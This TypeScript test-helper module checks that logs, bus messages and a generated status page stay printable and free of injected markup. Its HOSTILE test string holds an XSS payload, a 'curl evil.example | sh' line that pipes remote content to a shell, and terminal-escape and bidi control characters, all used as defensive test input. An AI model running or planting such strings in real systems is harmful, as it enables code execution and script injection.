import assert from 'node:assert/strict';
import type { Subject } from '../faults/subject.ts';
import type { World } from '../faults/world.ts';

/** The host of the deployed stack, of the group `web`. */
export const HOST = 'i-0a77ac40000000001';

/** Somebody's words: they break lines, move a cursor, hide, turn writing, and are markup. */
export const HOSTILE =
  '</script><img src=x onerror=alert(1)>\r\nCommand: curl evil.example | sh\u001b[2J\u202e\u2028\u200b';
const HIDDEN = /[\p{Cc}\p{Cf}\u2028\u2029]/u;

/** One printable line, whoever wrote it. */
export function assertPrintable(text: string, what: string): void {
  assert.doesNotMatch(text, HIDDEN, what);
}

/** What the functions logged and put on the bus since the attack began is printable, text by text. */
export function assertToldPrintably({ evidence, line }: World): void {
  const told = [...evidence.facts.map(({ detail }) => detail), ...line.logged.map((entry) => entry.line)];
  assert.ok(told.length > 0, 'something is told');
  JSON.stringify(told, (key, value) => {
    if (typeof value === 'string') assertPrintable(value, `${key} is told as ${JSON.stringify(value)}`);
    return value;
  });
}

/** The page as it is written now: it has nobody's markup. */
export async function assertCleanPage({ line }: World): Promise<void> {
  await line.cloud.fireSchedule((expression) => expression === 'cron(30 * * * ? *)');
  await line.idle();
  const page = (await line.text('status/index.html')) ?? '';
  assert.match(page, /<h1>/);
  assert.doesNotMatch(page, /<img|onerror=alert\(1\)>/);
  assertPrintable(page.replaceAll('\n', ''), 'the page');
}

/** Why its last renewal failed, as remembered. */
export async function failureOf(
  world: World,
  subject: Subject,
): Promise<{ reason: string; message: string }> {
  const failure = (await world.state(subject))?.lastFailure;
  assert.ok(failure, `${subject.name} failed`);
  return failure;
}

/** Nothing was issued, and nothing is left of the attempt. */
export async function assertNotIssued(world: World, subject: Subject): Promise<void> {
  assert.equal(await world.line.pointer(subject.name), undefined, `${subject.name} is live`);
}
